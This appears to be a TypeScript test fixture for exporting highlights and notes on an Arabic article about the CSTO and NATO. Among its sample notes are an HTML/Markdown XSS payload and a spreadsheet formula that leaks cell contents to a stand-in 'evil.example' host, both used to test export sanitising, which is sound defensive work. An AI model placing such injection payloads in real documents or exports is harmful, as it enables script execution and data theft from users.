import type { ArticleDocument } from '../../../src/document/article-document';
import type { AnnotationTarget } from '../../../src/anchoring/selectors';
import type { ExportOptions } from '../../../src/export/export-options';
import type { HighlightColor, PassageRecord } from '../../../src/storage/annotation-record';
import { seedArticle } from '../../seed-article';

/** The real article, parsed once for all export tests. */
export const doc: ArticleDocument = seedArticle();

const CONTEXT = 32;

/** A target for the (unique) occurrence of `exact` in the real article; throws if absent. */
export function targetFor(exact: string, withPosition = true): AnnotationTarget {
  const start = doc.text.indexOf(exact);
  if (start < 0 || doc.text.indexOf(exact, start + 1) >= 0) {
    throw new Error(`quote must occur exactly once: ${exact}`);
  }
  const end = start + exact.length;
  const quote = {
    type: 'TextQuoteSelector' as const,
    exact,
    prefix: doc.text.slice(Math.max(0, start - CONTEXT), start),
    suffix: doc.text.slice(end, end + CONTEXT),
  };
  return withPosition
    ? { quote, position: { type: 'TextPositionSelector', start, end } }
    : { quote };
}

function record(
  id: string,
  exact: string,
  color: HighlightColor,
  note: string,
  tags: string[],
  created: string,
  extra: Partial<PassageRecord> = {},
): PassageRecord {
  return {
    id,
    documentId: doc.meta.id,
    target: targetFor(exact),
    color,
    note,
    tags,
    created,
    modified: created,
    deleted: null,
    ...extra,
  };
}

/**
 * The fixed dataset behind the golden files: an Arabic note, an English note, a note full of CSV
 * trouble, an HTML/Markdown injection attempt, a spreadsheet formula, tags with spaces, a quote
 * starting with '-', a bare highlight, a quote-only one, and one in the trash (never exported).
 * Deliberately out of reading order.
 */
export const dataset: PassageRecord[] = [
  record(
    'b2c3d4e5-f6a7-4b8c-9d0e-1f2a3b4c5d6e',
    'لدي مثل هذه الشجاعة لقول هذا نيابة عن المنظمة بأكملها',
    'green',
    'Zas claims to speak for the whole organisation here.',
    ['CSTO', 'rhetoric'],
    '2026-11-20T09:15:00.000Z',
    { modified: '2026-11-21T10:00:00.000Z' },
  ),
  record(
    'a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d',
    'تكثيف النشاط العسكري لحلف الناتو',
    'yellow',
    'الفكرة الرئيسية: التهديد يطال المنظمة كلها، لا روسيا وبيلاروسيا وحدهما.',
    ['حلف الناتو', 'security policy'],
    '2026-11-20T09:00:00.000Z',
  ),
  record(
    'c3d4e5f6-a7b8-4c9d-8e0f-2a3b4c5d6e7f',
    '- النشاط العسكري آخذ في الازدياد',
    'blue',
    'He said "yes, of course", then paused;\nsecond line, with a comma\r\nthird line',
    [],
    '2026-11-20T09:30:00.000Z',
  ),
  record(
    'd4e5f6a7-b8c9-4d0e-9f1a-3b4c5d6e7f8a',
    'توفي على إثر هذه الأحداث 225 شخصاً',
    'pink',
    '<img src=x onerror=alert(1)>\n# Not a heading [click](javascript:alert(1)) *bold* ^fake-id',
    ['xss test'],
    '2026-11-20T09:45:00.000Z',
  ),
  record(
    'e5f6a7b8-c9d0-4e1f-8a2b-4c5d6e7f8a9b',
    'تضم حاليا 6 دول',
    'purple',
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    ['1984', '@mention'],
    '2026-11-20T10:00:00.000Z',
  ),
  record(
    'f6a7b8c9-d0e1-4f2a-9b3c-5d6e7f8a9b0c',
    'فريق الاستجابة للأزمات',
    'yellow',
    '',
    [],
    '2026-11-20T10:05:00.000Z',
    { target: targetFor('فريق الاستجابة للأزمات', false) },
  ),
  record(
    '0a1b2c3d-4e5f-4a6b-8c7d-8e9f0a1b2c3d',
    'قائمة موحدة للتنظيمات الإرهابية',
    'green',
    'in the trash',
    [],
    '2026-11-20T10:10:00.000Z',
    { deleted: '2026-11-22T08:00:00.000Z' },
  ),
];

/** Export moment used by every golden file. */
export const NOW = new Date('2026-11-29T12:00:00.000Z');

/** Timeline lookup for the golden files: two annotations fall in events. */
export const eventFor: NonNullable<ExportOptions['eventFor']> = (a) => {
  if (a.id.startsWith('a1b2')) return { title: 'زاس يحذر من نشاط الناتو (9 فبراير 2022)' };
  if (a.id.startsWith('d4e5')) return { title: 'Kazakhstan unrest: 225 dead [Jan 2022]' };
  return null;
};

/** Options shared by the golden exports. */
export const goldenOptions: ExportOptions = {
  now: NOW,
  url: 'https://qari.example/read/csto-zas-2022-02-09',
  eventFor,
};
